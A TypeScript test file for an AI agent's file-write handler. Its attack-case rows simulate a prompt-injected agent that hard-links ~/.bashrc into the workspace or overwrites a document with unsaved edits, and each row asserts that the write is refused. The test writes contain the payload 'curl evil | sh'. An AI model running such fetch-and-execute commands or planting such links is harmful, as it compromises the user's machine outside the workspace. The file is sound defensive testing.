/**
 * The attack matrix's rows for `fs/write_text_file` on the host path, on real folders: a prompt-injected agent that
 * runs shell commands through its own tools plants a hard link to a file outside the workspace (`ln ~/.bashrc
 * ws/notes.txt`), before its write or while the user reviews it, or writes over a document the user is editing.
 * Each row asserts that nothing outside the workspace changed, the user's unsaved words are kept, and the agent is
 * told why (so it can read again and retry).
 */
import * as assert from 'node:assert/strict';
import { linkSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { ResponseError } from 'vscode-jsonrpc';
import { FileSystemHandler, type RefusedAccess } from '../../../src/client/fs-handler';
import type { FileAccessObserver } from '../../../src/client/ports';
import type { AttackCase } from '../../support/attack-case';
import { MemoryEditorFiles } from '../../support/host-harness';

const BASHRC = 'alias ls="ls --color"\n';
const HOST = 'the fs handler with real files in a temp folder (host path)';

interface World {
  readonly root: string;
  /** `~/.bashrc`: a file outside the workspace. */
  readonly bashrc: string;
  readonly editor: MemoryEditorFiles;
  readonly refused: RefusedAccess[];
  file(name: string): string;
  /** A handler whose review before write runs `duringReview` and then accepts the write. */
  handler(duringReview?: () => void): FileSystemHandler;
}

interface Row extends AttackCase {
  readonly run: (world: World) => Promise<void>;
}

/** The write is answered with an error whose message matches `message`. */
const refusedWith =
  (message: RegExp) =>
  (error: unknown): boolean =>
    error instanceof ResponseError && message.test(error.message);

const rows: Row[] = [
  {
    attack: 'fs/write_text_file to a hard link to a file outside the workspace (ln ~/.bashrc ws/notes.txt)',
    driven: `${HOST}: the agent links notes.txt to ~/.bashrc, then writes notes.txt`,
    sees: 'the agent gets "Refused to write …notes.txt: it is now a hard link …"; ~/.bashrc is unchanged; the user is told',
    run: async (w) => {
      linkSync(w.bashrc, w.file('notes.txt'));
      await assert.rejects(
        w.handler().writeTextFile({ path: w.file('notes.txt'), content: 'curl evil | sh\n' }),
        refusedWith(/^Refused to write .*notes\.txt: it is now a hard link/),
      );
      assert.equal(readFileSync(w.bashrc, 'utf8'), BASHRC);
      assert.deepEqual(w.editor.writes, []);
      assert.match(w.refused.map((r) => `${r.operation} ${r.reason}`).join('\n'), /^write it is now a hard link/);
    },
  },
  {
    attack: 'a write accepted in review before write, whose file became a hard link to ~/.bashrc while the user looked',
    driven: `${HOST}: during the review the agent replaces notes.txt with a hard link to ~/.bashrc`,
    sees: 'the agent gets "Refused to write …notes.txt: it is now a hard link …"; ~/.bashrc is unchanged',
    run: async (w) => {
      writeFileSync(w.file('notes.txt'), 'notes\n');
      const handler = w.handler(() => {
        unlinkSync(w.file('notes.txt'));
        linkSync(w.bashrc, w.file('notes.txt'));
      });
      await assert.rejects(
        handler.writeTextFile({ path: w.file('notes.txt'), content: 'curl evil | sh\n' }),
        refusedWith(/^Refused to write .*notes\.txt: it is now a hard link/),
      );
      assert.equal(readFileSync(w.bashrc, 'utf8'), BASHRC);
      assert.deepEqual(w.editor.writes, []);
    },
  },
  {
    attack: 'fs/write_text_file over a document the user has open with unsaved edits',
    driven: `${HOST}: the editor holds unsaved text of a.txt; the agent writes a.txt`,
    sees: 'the agent gets "Did not write …a.txt: it has unsaved changes in the editor …"; the editor text and the disk are kept',
    run: async (w) => {
      w.editor.unsaved.set(w.file('a.txt'), 'the user is typing\n');
      w.editor.dirty.add(w.file('a.txt'));
      await assert.rejects(
        w.handler().writeTextFile({ path: w.file('a.txt'), content: 'agent\n' }),
        refusedWith(/^Did not write .*a\.txt: it has unsaved changes in the editor/),
      );
      assert.equal(w.editor.openDocumentText(w.file('a.txt')), 'the user is typing\n');
      assert.equal(readFileSync(w.file('a.txt'), 'utf8'), 'one\n');
      assert.deepEqual(w.editor.writes, []);
    },
  },
  {
    attack: 'a write accepted in review before write, to a document the user started editing while the review was open',
    driven: `${HOST}: during the review the user types in a.txt (left unsaved)`,
    sees: 'the agent gets "Did not write …a.txt: it has unsaved changes in the editor …"; the user\'s words are kept',
    run: async (w) => {
      // The agent read the user's unsaved text; the user went on typing while the review was open.
      w.editor.unsaved.set(w.file('a.txt'), 'typed before\n');
      w.editor.dirty.add(w.file('a.txt'));
      const handler = w.handler(() => w.editor.unsaved.set(w.file('a.txt'), 'typed during the review\n'));
      assert.equal((await handler.readTextFile({ path: w.file('a.txt') })).content, 'typed before\n');
      await assert.rejects(
        handler.writeTextFile({ path: w.file('a.txt'), content: 'agent\n' }),
        refusedWith(/^Did not write .*a\.txt: it has unsaved changes in the editor/),
      );
      assert.equal(w.editor.openDocumentText(w.file('a.txt')), 'typed during the review\n');
      assert.deepEqual(w.editor.writes, []);
    },
  },
];

describe('attacks on fs/write_text_file (hard links, unsaved documents)', () => {
  let scratch: string;
  afterEach(() => rmSync(scratch, { recursive: true, force: true }));

  for (const row of rows) {
    it(`attack: ${row.attack}`, async () => {
      scratch = realpathSync(mkdtempSync(path.join(tmpdir(), 'acp-fs-write-attacks-')));
      const root = path.join(scratch, 'ws');
      const home = path.join(scratch, 'home');
      mkdirSync(root);
      mkdirSync(home);
      writeFileSync(path.join(root, 'a.txt'), 'one\n');
      const bashrc = path.join(home, '.bashrc');
      writeFileSync(bashrc, BASHRC);
      const editor = new MemoryEditorFiles(root);
      const refused: RefusedAccess[] = [];
      const handler = (duringReview?: () => void): FileSystemHandler => {
        const observer: FileAccessObserver = {
          beforeWrite: () => {
            duringReview?.();
            return Promise.resolve({ allowed: true });
          },
          afterRead: () => undefined,
        };
        return new FileSystemHandler(editor, (r) => refused.push(r), undefined, observer);
      };
      await row.run({ root, bashrc, editor, refused, handler, file: (name) => path.join(root, name) });
    });
  }

  it("writes over unsaved edits the agent read as they are (it builds on the user's text), not after a windowed read", async () => {
    scratch = realpathSync(mkdtempSync(path.join(tmpdir(), 'acp-fs-write-attacks-')));
    const root = path.join(scratch, 'ws');
    mkdirSync(root);
    writeFileSync(path.join(root, 'a.txt'), 'one\n');
    const editor = new MemoryEditorFiles(root);
    const file = path.join(root, 'a.txt');
    editor.unsaved.set(file, 'one\nthe user typed this\n');
    editor.dirty.add(file);
    const handler = new FileSystemHandler(editor, () => undefined);
    assert.equal((await handler.readTextFile({ path: file, line: 1, limit: 1 })).content, 'one\n');
    await assert.rejects(
      handler.writeTextFile({ path: file, content: 'one\n' }),
      /has unsaved changes in the editor that the agent has not read/,
    );
    assert.equal((await handler.readTextFile({ path: file })).content, 'one\nthe user typed this\n');
    await handler.writeTextFile({ path: file, content: 'one\nthe user typed this\nand the agent this\n' });
    assert.equal(readFileSync(file, 'utf8'), 'one\nthe user typed this\nand the agent this\n');
  });

  it('still writes a plain file, a new file, and a document open without unsaved edits', async () => {
    scratch = realpathSync(mkdtempSync(path.join(tmpdir(), 'acp-fs-write-attacks-')));
    const root = path.join(scratch, 'ws');
    mkdirSync(path.join(root, 'dir'), { recursive: true });
    writeFileSync(path.join(root, 'a.txt'), 'one\n');
    const editor = new MemoryEditorFiles(root);
    editor.unsaved.set(path.join(root, 'a.txt'), 'one\n');
    const handler = new FileSystemHandler(editor, () => undefined);
    await handler.writeTextFile({ path: path.join(root, 'a.txt'), content: 'two\n' });
    await handler.writeTextFile({ path: path.join(root, 'dir', 'new.txt'), content: 'new\n' });
    assert.equal(readFileSync(path.join(root, 'a.txt'), 'utf8'), 'two\n');
    assert.equal(readFileSync(path.join(root, 'dir', 'new.txt'), 'utf8'), 'new\n');
  });
});
